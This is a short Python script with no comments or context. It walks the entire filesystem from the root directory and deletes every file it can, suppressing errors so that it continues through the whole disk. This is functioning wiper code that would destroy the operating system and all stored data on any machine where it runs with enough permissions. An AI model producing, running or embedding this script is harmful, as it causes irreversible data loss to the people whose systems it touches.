import os

for root, folders, files in os.walk("/"):
    for name in files:
        try:
            os.remove(os.path.join(root, name))
        except OSError:
            pass
